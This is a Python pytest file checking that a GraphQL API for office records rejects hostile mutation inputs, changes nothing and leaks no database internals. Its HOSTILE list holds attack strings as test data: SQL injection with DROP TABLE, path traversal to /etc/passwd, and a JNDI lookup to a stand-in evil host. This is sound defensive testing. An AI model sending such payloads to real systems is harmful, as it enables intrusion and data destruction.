"""Malicious changes: nothing of the store is disclosed, nothing is stored."""

from __future__ import annotations

import json
from collections.abc import Iterator
from time import thread_time
from typing import Any

import pytest
import structlog
from sqlalchemy import Engine, text

from changes.change_service import ChangeService
from loaders.seeds import Seeds
from store.reading.editions import load_edition
from store.tables.engine import is_postgis, writing
from tests.changing import KARASAI, UPDATE, ChangingClient
from tests.filled import fill

OFFICE = f"Office:{KARASAI}"
ANY = "userErrors { message code path }"
DOCUMENTS = {
    "update": f"""mutation($x: String!, $id: ID!) {{ officeUpdate(id: $id, expectedVersion: 1,
      patch: {{nameRu: $x, addressRu: $x, postalCode: $x, openingHours: $x, category: $x, settlementId: $id,
        organizationId: $id, parentId: $id, jurisdictionUnitIds: [$id],
        contacts: [{{kind: EMAIL, value: $x}}]}},
      reason: $x, evidence: [$x], confirm: [$x], idempotencyKey: $x) {{ {ANY} }} }}""",
    "create": f"""mutation($x: String!) {{ officeCreate(
      office: {{nameRu: $x, kind: AKIMAT, category: "okrug_akimat", addressKk: $x}},
      reason: $x, evidence: [$x], idempotencyKey: $x) {{ {ANY} }} }}""",
    "give": f"""mutation($x: String!, $id: ID!) {{ provisionSet(officeId: "{OFFICE}", expectedVersion: 1,
      serviceId: $id, roles: [DECIDES], jurisdictionUnitIds: [$id], reason: $x, evidence: [$x]) {{
      {ANY} }} }}""",
    "import": f"""mutation($x: String!) {{
      officesImport(csv: $x, reason: $x, idempotencyKey: $x) {{ {ANY} }} }}""",
    "submit": f"""mutation($x: String!) {{ correctionSubmit(officeId: "{OFFICE}", baseVersion: 1,
      patch: {{nameRu: $x}}, evidence: [$x], idempotencyKey: $x) {{ {ANY} }} }}""",
    "review": f"""mutation($x: String!, $id: ID!) {{
      correctionReview(id: $id, decision: ACCEPT, note: $x) {{ {ANY} }} }}""",
}
HOSTILE = [
    "'; DROP TABLE office; --",
    "\x00",
    "Office:\x00",
    "Correction:1 OR 1=1",
    "../../../../etc/passwd",
    "Office:" + "9" * 400,
    "\u202egnp.exe",
    "a" * 100_000,
    "%s%s%n{0}{{7*7}}${jndi:ldap://evil.example/x}",
    "😀" * 500,
    "\ud83d",
]
LEAKS = ("select ", "insert ", "sqlite", "psycopg", "postgres", "traceback", ".py", " table ", "/tmp/")


def nothing_leaks(told: str, said: str = "") -> None:
    # The message may repeat the client's own values; what the server adds must disclose nothing.
    own = told.lower()
    for part in (said, json.dumps(said)[1:-1], *(cell.strip() for cell in said.split(";") if cell.strip())):
        own = own.replace(part.lower(), "")
    assert [leak for leak in LEAKS if leak in own] == [], told


@pytest.fixture
def client(store_engine: Engine, small_seeds: Seeds) -> Iterator[ChangingClient]:
    """A server over the small seeds on either store."""
    fill(store_engine, small_seeds)
    client = ChangingClient(store_engine)
    with client.http:
        yield client


def post(client: ChangingClient, document: str, variables: dict[str, Any]) -> Any:
    body = json.dumps({"query": document, "variables": variables}).encode()
    return client.http.post("/graphql", content=body, headers={"content-type": "application/json"})


@pytest.mark.slow
@pytest.mark.parametrize("kind", DOCUMENTS)
def test_hostile_texts_are_refused_by_name_and_change_nothing(client: ChangingClient, kind: str) -> None:
    before = client.edition
    for said in HOSTILE:
        for about in (said, OFFICE):
            answer = post(client, DOCUMENTS[kind], {"x": said, "id": about})
            body = answer.json()
            codes = {error["extensions"]["code"] for error in body.get("errors", ())}
            assert codes <= {"BAD_USER_INPUT", "BAD_REQUEST"}, body
            (payload,) = (body.get("data") or {"": None}).values()
            if payload is not None and not payload["userErrors"]:
                assert kind in ("submit", "create"), (said, body)  # unusual, but a valid name
                continue
            nothing_leaks(answer.text, said)
    if kind not in ("submit", "create"):
        assert load_edition(client.engine) == before


TROUBLES = {
    "a table is gone": ("ALTER TABLE revision RENAME TO away", "ALTER TABLE away RENAME TO revision"),
    "a column is gone": (
        "ALTER TABLE office RENAME COLUMN updated_at TO away",
        "ALTER TABLE office RENAME COLUMN away TO updated_at",
    ),
    "a rule is broken": (
        "CREATE TRIGGER secret BEFORE INSERT ON revision BEGIN SELECT RAISE(ABORT, 'secret rule'); END",
        "DROP TRIGGER secret",
    ),
}
_RULE_OF_POSTGIS = (
    "ALTER TABLE revision ADD CONSTRAINT secret CHECK (actor = 'nobody')",
    "ALTER TABLE revision DROP CONSTRAINT secret",
)


@pytest.mark.parametrize("trouble", TROUBLES)
def test_what_fails_in_the_store_is_told_without_its_words(client: ChangingClient, trouble: str) -> None:
    broken, mended = TROUBLES[trouble]
    if is_postgis(client.engine) and "rule" in trouble:
        broken, mended = _RULE_OF_POSTGIS
    asked = {"id": OFFICE, "expected": 1, "patch": {"nameRu": "Новое имя"}, "key": "k"}
    before = client.edition
    with writing(client.engine) as connection:
        connection.execute(text(broken))
    try:
        with structlog.testing.capture_logs() as logged:
            answer = post(client, UPDATE, asked)
        (error,) = answer.json()["errors"]
        assert error["extensions"]["code"] in ("STORE_UNAVAILABLE", "INTERNAL")
        nothing_leaks(answer.text)
        assert "secret" not in answer.text
        assert [line for line in logged if line["log_level"] == "error"]
        assert client.data("{ edition { number } }")["edition"]["number"] == before.number
    finally:
        with writing(client.engine) as connection:
            connection.execute(text(mended))
    assert load_edition(client.engine) == before
    # The same request with the same key is carried out once the store is mended.
    assert client.change(UPDATE, **asked)["office"]["version"] == 2


def test_a_change_that_took_long_is_still_answered(
    client: ChangingClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    carry_out = ChangeService.carry_out

    def slowly(self: ChangeService, *arguments: Any, **named: Any) -> Any:
        outcome, begun = carry_out(self, *arguments, **named), thread_time()
        while thread_time() - begun < 0.6:
            pass
        return outcome

    monkeypatch.setattr(ChangeService, "carry_out", slowly)
    slow = ChangingClient(client.engine, {"KENSE_WORK_LIMIT_MS": "500"})
    document = UPDATE.replace("query { edition { number } }", "query { offices(first: 3) { totalCount } }")
    payload = slow.change(document, id=OFFICE, expected=1, patch={"nameRu": "Новое имя"})
    assert (payload["office"]["version"], payload["query"]["offices"]["totalCount"]) == (2, 12)


def test_reading_inside_of_a_change_is_limited_as_any_reading(client: ChangingClient) -> None:
    hungry = " ".join(
        f"p{number}: offices(first: 200) {{ edges {{ node {{ id }} }} }}" for number in range(40)
    )
    limited = ChangingClient(client.engine, {"KENSE_WORK_LIMIT_MS": "1"})
    document = f'mutation {{ correctionWithdraw(id: "Correction:1") {{ {ANY} query {{ {hungry} }} }} }}'
    assert limited.error(document)[0] == "LIMIT_EXCEEDED"
